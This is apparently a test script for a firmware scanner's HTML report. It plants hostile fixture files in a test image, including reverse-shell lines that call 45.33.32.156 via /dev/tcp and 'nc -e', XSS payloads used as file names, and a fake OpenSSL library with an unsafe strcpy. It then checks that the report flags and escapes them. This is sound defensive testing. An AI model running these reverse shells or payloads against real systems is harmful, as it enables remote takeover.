#!/bin/bash
# The HTML report (`--format html`) rendered in headless Chromium: the planted
# router image of scan_planted.sh plus a second squashfs with hostile file
# names and evidence (<img src=x onerror=...>, </script>, invalid UTF-8,
# control bytes, quotes), an x86-64 OpenSSL 1.0.1f library built hardened
# (Heartbleed: a KEV-listed vulnerability; end of life; a hardened binary), and
# a truncated gzip stream (an extraction that is not ok).  The DOM after the
# page's script ran is checked against the JSON report of the same image:
# the verdict, the counts, every section's rows, the KEV marks, the chart, the
# script's sorting and filtering (driven by the #sort/#filter/#sev fragment),
# the escaping of hostile names, and that nothing outside is referenced.  A
# screenshot is checked to be a non-blank PNG of the requested size, and
# `fwvet report ID --format html` must give the scan's page byte for byte.
. "${FV_SRCDIR:?run through meson test}/tests/lib.sh"

command -v chromium > /dev/null || fail "needs Debian's chromium (scripts/deps.sh installs it)"
command -v python3 > /dev/null || fail "needs python3 for the DOM checks"

img=$FV_FIXTURES/scan/planted.bin
"$FV_SRCDIR/tests/fixtures/mkscanimage.sh" planted "$img"
cd "$FV_WORK"

# ---- the extra layer: hostile names, a hardened library with a KEV vulnerability ----
x=$FV_WORK/extra
mkdir -p "$x/www/cgi-bin/<" "$x/usr/lib" "$x/etc"
printf '#!/bin/sh\n/bin/bash -i >& /dev/tcp/45.33.32.156/443 0>&1 # "q" &amp; </script><script>alert(2)</script> \xff\xfe\x1b[31m\n' \
	> "$x/www/cgi-bin/<img src=x onerror=alert(1)>"
printf '#!/bin/sh\nnc 45.33.32.156 443 -e /bin/sh\n' > "$x/www/cgi-bin/</script>"
printf '#!/bin/sh\nnc 45.33.32.156 80 -e /bin/sh\n' > "$x/etc/bad"$'\xff\x01'"name\"'"
cat > lib.c << 'E'
#include <stdio.h>
#include <string.h>
const char fv_version_text[] = "OpenSSL 1.0.1f 6 Jan 2014";
const char *fv_version(void) { return fv_version_text; }
int fv_copy(const char *s) { char b[64]; strcpy(b, s); return puts(b); }
E
gcc -shared -fPIC -O2 -fstack-protector-strong -D_FORTIFY_SOURCE=2 -Wl,-z,relro,-z,now,-z,noexecstack \
	-Wl,-soname,libcrypto.so.1.0.0 -o "$x/usr/lib/libcrypto.so.1.0.0" lib.c
find "$x" -exec touch -h -d @"$SOURCE_DATE_EPOCH" {} +
mksquashfs "$x" extra.sqfs -all-root -noappend -quiet -comp gzip -no-xattrs > /dev/null
# A gzip stream cut short: its chunk is extracted partially.
seq 1 30000 | gzip -n -9 | head -c 2000 > cut.gz
cp "$img" img.bin
cat extra.sqfs >> img.bin
head -c $(((4096 - $(stat -c %s img.bin) % 4096) % 4096)) /dev/zero | tr '\0' '\377' >> img.bin
cat cut.gz >> img.bin

# ---- the reports: JSON for reference, HTML stored and rendered again ----
R=$FV_WORK/r.json
"$FWVET" scan --no-store --vulndb none --format json -o "$R" img.bin || fail "scan --format json failed"
DB=$FV_WORK/r.db
"$FWVET" scan --db "$DB" --vulndb none --format html -o scan.html img.bin || fail "scan --format html failed"
id=$("$FWVET" db list --db "$DB" --format json | jq '[.[].id] | max')
"$FWVET" report "$id" --db "$DB" --format html -o report.html || fail "report $id --format html failed"
if cmp -s scan.html report.html; then
	ok "report $id --format html: the scan's page byte for byte"
else
	diff -u scan.html report.html | head -20 >&2
	fail "report --format html differs from the scan's page"
fi
check "the fixture has every category the page has a section for (the test can fail)" \
	'([.findings[].category] | unique | contains(["backdoor","exfiltration","credential","secret","account",
	  "service","vulnerability","supply-chain","hardening","unsafe-code"]))
	 and ([.vulnerabilities[] | select(.kev)] | length) >= 2 and ([.extraction[] | select(.status != "ok")] | length) >= 1
	 and .summary.hardening.hardened >= 1 and (.accounts | length) > 0 and (.services | length) > 0
	 and ([.endpoints[] | select(.outside)] | length) > 0 and (.unsafe_calls | length) > 0'

# ---- Chromium: the DOM after the script ran, and a screenshot ----
chrome() {
	local prof
	prof=$(mktemp -d "$FV_WORK/chrome.XXXXXX")
	timeout 60 chromium --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
		--disable-background-networking --disable-component-update --disable-sync --hide-scrollbars \
		--user-data-dir="$prof" "$@" 2>> chromium.log
}
view='sort=findings:offset:desc&sort=vulnerabilities:cvss:desc&filter=backdoors:cgi-bin&sev=high'
# A page that hangs (a dialog opened by script injected through a hostile name) ends in the timeout.
chrome --dump-dom "file://$FV_WORK/scan.html#$view" > dom.html ||
	fail "chromium --dump-dom failed or hung (injected script? see chromium.log)"
[ -s dom.html ] || fail "chromium dumped an empty DOM"
ok "chromium dumped the DOM ($(wc -c < dom.html) bytes)"
chrome --screenshot="$FV_WORK/shot.png" --window-size=1280,2000 "file://$FV_WORK/scan.html" ||
	fail "chromium --screenshot failed (chromium.log)"
assert_file "$FV_WORK/shot.png"

# ---- the checks, in Python's HTML parser; each prints "ok - ..." or "FAIL: ..." ----
python3 - "$R" scan.html dom.html shot.png "$FV_SRCDIR/rules/findings/network.txt" > checks.txt << 'PY' || true
import json, re, struct, sys, zlib
from html.parser import HTMLParser

rep = json.load(open(sys.argv[1]))
raw = open(sys.argv[2], 'rb').read()
dom = open(sys.argv[3], encoding='utf-8').read()
png = open(sys.argv[4], 'rb').read()
catalog_src = open(sys.argv[5], encoding='utf-8').read()

def check(msg, cond):
    print(('ok - ' if cond else 'FAIL: ') + msg)

class El:
    def __init__(self, tag, attrs, parent):
        self.tag, self.attrs, self.parent, self.kids, self.text = tag, dict(attrs), parent, [], []
    def all(self):
        yield self
        for k in self.kids:
            if isinstance(k, El):
                yield from k.all()
    def content(self):
        return ''.join(k if isinstance(k, str) else k.content() for k in self.kids)
    def find(self, tag=None, **kw):
        return [e for e in self.all() if (tag is None or e.tag == tag)
                and all(e.attrs.get(a.replace('_', '-')) == v for a, v in kw.items())]
    def has_class(self, c):
        return c in (self.attrs.get('class') or '').split()

VOID = {'meta', 'br', 'input', 'img', 'link', 'hr', 'col', 'area', 'base', 'source', 'wbr', 'embed'}
class P(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.root = El('#root', [], None)
        self.cur = self.root
    def handle_starttag(self, tag, attrs):
        e = El(tag, attrs, self.cur)
        self.cur.kids.append(e)
        if tag not in VOID:
            self.cur = e
    def handle_startendtag(self, tag, attrs):
        self.cur.kids.append(El(tag, attrs, self.cur))
    def handle_endtag(self, tag):
        c = self.cur
        while c is not None and c.tag != tag:
            c = c.parent
        if c is not None and c.parent is not None:
            self.cur = c.parent
    def handle_data(self, d):
        self.cur.kids.append(d)

def parse(s):
    p = P()
    p.feed(s)
    p.close()
    return p.root

# ---- the page as written: valid UTF-8, a strict policy, nothing fetched ----
try:
    text = raw.decode('utf-8')
    check('the page is valid UTF-8', True)
except UnicodeDecodeError as e:
    check('the page is valid UTF-8 (%s)' % e, False)
    text = raw.decode('utf-8', 'replace')
check('a Content-Security-Policy with default-src \'none\'',
      re.search(r'<meta http-equiv="Content-Security-Policy" content="default-src \'none\';', text) is not None)
check('one <script> and one </script> in the source: the image\'s "</script>" is escaped',
      text.count('<script') == 1 and text.count('</script') == 1)
check('no <img, <link, <iframe, <object, <embed, @import or url( in the source',
      not re.search(r'<(img|link|iframe|object|embed)\b|@import|url\(', text, re.I))
check('no control bytes in the source', not re.search(r'[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]', text))

# ---- the DOM after the script ran ----
d = parse(dom)
def table(name):
    t = d.find('table', id='t-' + name)
    return t[0] if t else None
def rows(name):
    t = table(name)
    if t is None:
        return None
    return [r for b in t.find('tbody') for r in b.kids if isinstance(r, El) and r.tag == 'tr']
def shown(rs):
    return [r for r in rs if 'hidden' not in r.attrs]

body = d.find('body')
check('the script ran (body data-js=ready)', bool(body) and body[0].attrs.get('data-js') == 'ready')
tables = d.find('table')
check('every table (%d) was made sortable by the script' % len(tables),
      len(tables) >= 12 and all(t.attrs.get('data-sortable') == '1' for t in tables if t.has_class('data')))
for sec in ['verdict', 'top', 'backdoors', 'credentials', 'services', 'endpoints', 'components',
            'vulnerabilities', 'hardening', 'unsafe', 'extraction', 'findings', 'rules']:
    check('section #%s present' % sec, len(d.find('section', id=sec)) == 1)

F = rep['findings']
bysev = rep['summary']['findings_by_severity']
v = d.find('section', id='verdict')
stop = bysev['critical'] > 0 or any(f['severity'] in ('critical', 'high') and
                                   f['category'] in ('backdoor', 'exfiltration', 'credential') for f in F)
check('verdict "Do not deploy" (critical findings and a backdoor)',
      stop and v and v[0].attrs.get('data-verdict') == 'stop' and 'Do not deploy' in v[0].find('h2')[0].content())
for s in ['critical', 'high', 'medium', 'low', 'info']:
    b = d.find('span', data_sev_count=s)
    check('badge %s shows %d' % (s, bysev[s]), len(b) == 1 and b[0].find('b')[0].content() == str(bysev[s]))
cats = {}
for f in F:
    cats[f['category']] = cats.get(f['category'], 0) + 1
crow = {r.kids[0].content(): r.kids[1].content() for r in rows('categories')}
check('the category table counts each category as the JSON does (%d categories)' % len(cats),
      crow == {k: str(n) for k, n in cats.items()})
top = d.find('ol')
check('top risks: %d lines' % min(10, len(F)), top and len(top[0].find('li')) == min(10, len(F)))

def count(cs):
    return len([f for f in F if f['category'] in cs])
expect = {
    'findings': len(F),
    'backdoors': count(('backdoor', 'exfiltration')),
    'credentials': count(('credential', 'secret', 'account')),
    'service-findings': count(('service',)),
    'accounts': len(rep['accounts']),
    'services': len(rep['services']),
    'endpoints': len(rep['endpoints']),
    'components': len(rep['components']),
    'vulnerabilities': len(rep['vulnerabilities']),
    'binaries': len([f for f in rep['files'] if 'hardening' in f]),
    'unsafe': len(rep['unsafe_calls']),
    'extraction': len(rep['extraction']),
}
for name, n in expect.items():
    rs = rows(name)
    check('table %s: %d rows as in the JSON report' % (name, n), rs is not None and len(rs) == n and n > 0)

out = [r for r in rows('endpoints') if r.has_class('outside')]
check('outside endpoints marked: %d' % len([e for e in rep['endpoints'] if e['outside']]),
      len(out) == len([e for e in rep['endpoints'] if e['outside']]) and all(r.find('span', **{'class': 'out'}) for r in out))
kev = {x['id'] for x in rep['vulnerabilities'] if x['kev']}
marked = {r.kids[0].content() for r in rows('vulnerabilities') if r.find('span', **{'class': 'kev'})}
check('KEV marked on exactly the known-exploited vulnerabilities %s' % sorted(kev), marked == kev and len(kev) >= 2)
bad = [r for r in rows('extraction') if r.has_class('bad')]
check('extraction entries not ok highlighted (%d)' % len([e for e in rep['extraction'] if e['status'] != 'ok']),
      len(bad) == len([e for e in rep['extraction'] if e['status'] != 'ok'])
      and all('partial' in r.content() or 'failed' in r.content() for r in bad))

# The chart: an SVG with one bar per property; "Hardened" is the JSON summary's share.
hs = rep['summary']['hardening']
svg = d.find('svg', id='hardening-chart')
bars = svg[0].find('rect', **{'class': 'bar'}) if svg else []
check('hardening chart: an SVG with 6 bars', len(bars) == 6)
check('hardening chart: Hardened bar is %d of %d' % (hs['hardened'], hs['binaries']),
      bars and bars[0].attrs.get('width') == str(hs['hardened'] * 400 // hs['binaries'])
      and ('%d of %d' % (hs['hardened'], hs['binaries'])) in svg[0].content())

# The view of the fragment: findings by offset, highest first; vulnerabilities by CVSS, highest
# first; the backdoors table filtered to cgi-bin; only high and critical rows shown.
offs = [int(r.kids[5].attrs['data-v']) for r in rows('findings')]
check('#sort=findings:offset:desc ordered the rows by offset (numbers, not text)',
      offs == sorted(offs, reverse=True) and offs != sorted(offs) and
      any(th.attrs.get('aria-sort') == 'descending' for th in table('findings').find('th')))
cv = [float(r.kids[2].attrs['data-v']) for r in rows('vulnerabilities')]
check('#sort=vulnerabilities:cvss:desc ordered the CVSS scores', cv == sorted(cv, reverse=True))
sev = [int(r.attrs['data-sev']) for r in shown(rows('findings'))]
check('#sev=high: only high and critical findings shown (%d of %d)' % (len(sev), len(F)),
      sev and min(sev) >= 3 and len(sev) == len([f for f in F if f['severity'] in ('high', 'critical')]))
want = [f for f in F if f['category'] in ('backdoor', 'exfiltration') and 'cgi-bin' in f['path']
        and f['severity'] in ('high', 'critical')]
got = shown(rows('backdoors'))
check('#filter=backdoors:cgi-bin with #sev=high: %d rows shown' % len(want),
      len(want) > 0 and len(got) == len(want) and all('cgi-bin' in r.content() for r in got))

# Hostile names: text, never markup.
els = [e.tag for e in d.all()]
check('no <img> element and one <script> element in the DOM', 'img' not in els and els.count('script') == 1)
check('no on* event attribute in the DOM',
      not any(a.startswith('on') for e in d.all() for a in e.attrs))
paths = [r.kids[4].content() for r in rows('findings')]
check('the file named <img src=x onerror=alert(1)> is shown as text',
      any(p.endswith('/www/cgi-bin/<img src=x onerror=alert(1)>') for p in paths))
check('the file named </script> is shown as text', any(p.endswith('/www/cgi-bin/</script>') for p in paths))
check('invalid UTF-8 and a control byte in a name are shown as \\xNN',
      any(p.endswith('/etc/bad\\xff\\x01name"\'') for p in paths))
ev = [r.kids[6].content() for r in rows('findings')]
check('evidence holding </script><script> is shown as text', any('</script><script>alert(2)</script>' in e for e in ev))

# Nothing outside is referenced: no src at all, links only as <a href> (CVE/CWE pages, references).
srcs = [e for e in d.all() if 'src' in e.attrs or 'srcset' in e.attrs or 'action' in e.attrs]
check('no element has src, srcset or action', not srcs)
hrefs = [(e.tag, e.attrs['href']) for e in d.all() if 'href' in e.attrs]
check('every href is an <a> (%d links)' % len(hrefs), all(t == 'a' for t, _ in hrefs))
refs = {e.attrs['href'] for e in d.find('section', id='rules')[0].all() if 'href' in e.attrs}
check('links go to #anchors, NVD or CWE pages, or (in the rules section) the catalogue\'s web references',
      all(h.startswith('#') or h.startswith('https://nvd.nist.gov/vuln/detail/CVE-')
          or h.startswith('https://cwe.mitre.org/data/definitions/')
          or (h in refs and re.match(r'https?://', h)) for _, h in hrefs))
check('CVE ids link to their NVD page', any(h == 'https://nvd.nist.gov/vuln/detail/CVE-2014-0160' for _, h in hrefs))

# The rule catalogue: when it is loaded, a rule's summary is the catalogue's.
rr = [r for r in rows('rules') if r.attrs.get('id') == 'rule-FV-NET-002']
summaries = [r.kids[2].content() for r in rows('rules')]
if any(s != '(not in the rule catalogue)' for s in summaries):
    m = re.search(r'^FV-NET-002 .*\nsummary: (.*)$', catalog_src, re.M)
    check('rules: FV-NET-002 shows the catalogue\'s summary', rr and m and rr[0].kids[2].content() == m.group(1))
else:
    print('note - the rule catalogue is empty (catalog.c not in place): its summaries are not checked')
check('rules: one row per rule that fired', len(rows('rules')) == len({f['rule'] for f in F}))

# ---- the screenshot: a PNG of the requested size that is not blank ----
ok_sig = png[:8] == b'\x89PNG\r\n\x1a\n' and png[12:16] == b'IHDR'
w, h, depth, ctype = struct.unpack('>IIBB', png[16:26]) if ok_sig else (0, 0, 0, 0)
check('screenshot is a PNG of 1280x2000 (%dx%d)' % (w, h), ok_sig and (w, h) == (1280, 2000))
colours = set()
if ok_sig and depth == 8 and ctype in (2, 6):
    bpp = 3 if ctype == 2 else 4
    data, pos = b'', 8
    while pos < len(png):
        n, t = struct.unpack('>I4s', png[pos:pos + 8])
        if t == b'IDAT':
            data += png[pos + 8:pos + 8 + n]
        pos += 12 + n
    raw_px = zlib.decompress(data)
    stride = w * bpp
    prev = bytearray(stride)
    for y in range(0, h):
        f = raw_px[y * (stride + 1)]
        line = bytearray(raw_px[y * (stride + 1) + 1:(y + 1) * (stride + 1)])
        for i in range(stride):
            a = line[i - bpp] if i >= bpp else 0
            b = prev[i]
            c = prev[i - bpp] if i >= bpp else 0
            if f == 1: line[i] = (line[i] + a) & 255
            elif f == 2: line[i] = (line[i] + b) & 255
            elif f == 3: line[i] = (line[i] + (a + b) // 2) & 255
            elif f == 4:
                p = a + b - c
                pa, pb, pc = abs(p - a), abs(p - b), abs(p - c)
                line[i] = (line[i] + (a if pa <= pb and pa <= pc else b if pb <= pc else c)) & 255
        prev = line
        if y % 4 == 0:
            for i in range(0, stride, bpp * 2):
                colours.add(bytes(line[i:i + 3]))
check('screenshot is not blank: %d distinct colours' % len(colours), len(colours) >= 50)
PY

while IFS= read -r line; do
	case $line in
	"ok - "*) ok "${line#ok - }" ;;
	"FAIL: "*) echo "$line" >&2; fv_failures=$((fv_failures + 1)) ;;
	*) echo "$line" ;;
	esac
done < checks.txt
grep -q . checks.txt || fail "the DOM checks printed nothing (python3 failed?)"
tail -n 1 checks.txt | grep -q '^\(ok - \|FAIL: \)screenshot is not blank' || fail "the DOM checks stopped early: $(tail -n 3 checks.txt)"

[ "$fv_failures" = 0 ] || fail "$fv_failures checks failed (page: $FV_WORK/scan.html, DOM: $FV_WORK/dom.html)"
finish
